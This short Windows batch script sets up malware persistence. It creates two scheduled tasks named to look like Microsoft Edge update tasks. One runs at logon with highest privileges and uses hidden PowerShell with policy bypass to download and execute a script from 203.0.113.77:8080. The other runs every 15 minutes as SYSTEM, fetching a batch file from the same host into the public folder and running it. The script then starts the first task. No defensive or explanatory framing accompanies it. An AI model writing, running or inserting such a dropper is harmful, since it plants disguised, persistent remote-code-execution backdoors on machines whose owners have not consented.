@echo off
schtasks /create /tn "MicrosoftEdgeUpdateTaskMachineCore{A1B2}" /sc onlogon /rl highest /f /tr "powershell.exe -nop -w hidden -ep bypass -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.77:8080/a')\""
schtasks /create /tn "MicrosoftEdgeUpdateTaskMachineUA{A1B2}" /sc minute /mo 15 /ru SYSTEM /f /tr "cmd /c curl -s http://203.0.113.77:8080/b -o %PUBLIC%\b.cmd && %PUBLIC%\b.cmd"
schtasks /run /tn "MicrosoftEdgeUpdateTaskMachineCore{A1B2}"
